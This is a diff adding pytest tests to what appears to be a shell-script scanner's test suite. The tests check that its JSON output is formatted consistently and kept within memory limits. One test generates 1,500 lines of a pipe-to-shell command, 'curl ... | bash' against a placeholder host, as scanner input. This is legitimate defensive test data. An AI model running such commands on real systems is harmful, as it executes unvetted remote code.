@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import tracemalloc
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -122,3 +123,24 @@ def test_a_run_that_found_nothing_is_said_in_every_format(run: Run, schemas: Pat
     root = etree.fromstring(render("junit", report).encode())
     for name in ("JUnit.xsd", "junit-10.xsd"):
         etree.XMLSchema(etree.parse(schemas / name)).assertValid(root)
+
+
+@pytest.mark.parametrize("files", [{}, {"tidy.sh": "ls\n"}])
+def test_json_written_row_by_row_is_spelled_as_in_one_piece(
+    run: Run, files: dict[str, str]
+) -> None:
+    text = render("json", run(files) if files else run())
+    assert text == json.dumps(json.loads(text), indent=2) + "\n"
+
+
+def test_json_is_not_held_as_objects_before_it_is_written(run: Run) -> None:
+    lines = "".join(f"curl -s https://x.org/{number}.sh | bash\n" for number in range(1500))
+    report = run({"install.sh": lines})
+    tracemalloc.start()
+    try:
+        text = render("json", report)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert len(report.result.reported) == 1500
+    assert peak < 4 * len(text)
